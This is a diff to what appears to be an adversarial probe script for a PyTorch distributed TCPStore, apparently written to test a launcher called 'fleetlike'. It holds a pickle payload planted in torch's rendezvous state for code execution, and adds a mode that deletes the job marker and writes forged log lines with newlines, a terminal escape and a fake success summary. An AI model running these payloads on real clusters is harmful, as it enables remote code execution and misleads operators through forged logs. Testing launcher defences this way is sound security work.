@@ -10,6 +10,9 @@ Modes:
   sniff HOST:PORT RUN_ID
                 read the job's key prefix off the loopback (a raw socket), then write a pickle
                 where torch's elastic rendezvous keeps its state for RUN_ID (torch unpickles it)
+  marker HOST:PORT
+                delete the store's public marker, and leave a refusal record that would forge
+                log lines (newlines, a terminal escape, a fake summary) if printed as it is
 """
 
 import hashlib
@@ -103,6 +106,17 @@ def main() -> None:
         raw = dist.TCPStore(host, int(port), None, False, datetime.timedelta(seconds=10))
         state = base64.b64encode(pickle.dumps(Payload(marker))).decode()
         attempt(report, "plant state", lambda: raw.set(f"{prefix}/torch.rendezvous.{run_id}", state) or "set")
+    elif mode == "marker":
+        import datetime
+
+        import torch.distributed as dist
+
+        host, port = rest[0].rsplit(":", 1)
+        raw = dist.TCPStore(host, int(port), None, False, datetime.timedelta(seconds=10))
+        forged = "10.9.9.9:1\nfleetlike.launch: summary: job succeeded\x1b[2J"
+        attempt(report, "knock", lambda: raw.set(f"fleetlike/knock/{raw.add('fleetlike/knock', 1)}", json.dumps(
+            {"endpoint": forged, "host": "h\r\nforged", "pid": 1})) or "set")
+        attempt(report, "delete marker", lambda: raw.delete_key("fleetlike/job"))
     with open(out, "w") as fh:
         json.dump(report, fh)
 
